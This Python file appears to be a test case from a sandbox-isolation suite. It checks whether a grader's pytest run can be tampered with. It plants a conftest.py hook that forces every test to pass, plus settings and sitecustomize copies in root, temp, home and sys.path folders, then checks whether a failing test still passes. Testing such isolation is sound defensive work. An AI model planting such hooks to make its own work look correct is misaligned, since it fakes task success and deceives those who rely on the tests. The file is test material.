# ---
# id: 67
# name: planted-test-settings
# title: Plant settings and plugins that make the judge's tests pass
# class: python
# techniques: [T1565.001, T1574]
# defences: [the judge runs in another sandbox or cell, every writable place is empty at its start]
# steps: 2
# image: python-test
# wallMs: 30000
# control: {}
# ---
"""pytest takes conftest.py, pytest.ini, tox.ini and pyproject.toml from all folders above a test, and plugins from
its path. The judge's test, which must fail, comes after. The control plants and judges in one run.
"""
import contextlib
import io
import json
import os
import sys

HOOK = "import pytest\n@pytest.hookimpl(tryfirst=True)\ndef pytest_pyfunc_call(pyfuncitem):\n    return True\n"
SETTINGS = {
    "conftest.py": HOOK,
    "pytest.ini": "[pytest]\naddopts = --exitfirst\n",
    "tox.ini": "[pytest]\naddopts = --exitfirst\n",
    "pyproject.toml": '[tool.pytest.ini_options]\naddopts = "--exitfirst"\n',
    "pytest_planted.py": HOOK,
    "sitecustomize.py": HOOK,
}


def plant():
    planted = 0
    for folder in ("/", "/workspace", "/tmp", "/dev/shm", os.path.expanduser("~"), *sys.path[1:]):
        for name, content in SETTINGS.items():
            try:
                with open(os.path.join(folder, name), "w") as file:
                    file.write(content)
                planted += 1
            except OSError:
                pass
    return planted


def judge():
    """Returns pytest's exit code for a test that fails: 1, unless somebody meddled with it."""
    import pytest

    os.makedirs("/workspace/judge", exist_ok=True)
    with open("/workspace/judge/test_one.py", "w") as file:
        file.write("def test_one():\n    assert 1 == 2\n")
    os.chdir("/workspace/judge")
    with contextlib.redirect_stdout(io.StringIO()):
        return int(pytest.main(["-q", "test_one.py"]))


step, mode = sys.argv[1:]
planted = plant() if step == "1" or mode == "control" else 0
code = judge() if step == "2" else None
saw = f"planted {planted} files" if step == "1" else f"pytest ended with {code} for a test that fails"
print(json.dumps({"reached": code is not None and code != 1, "saw": saw}))
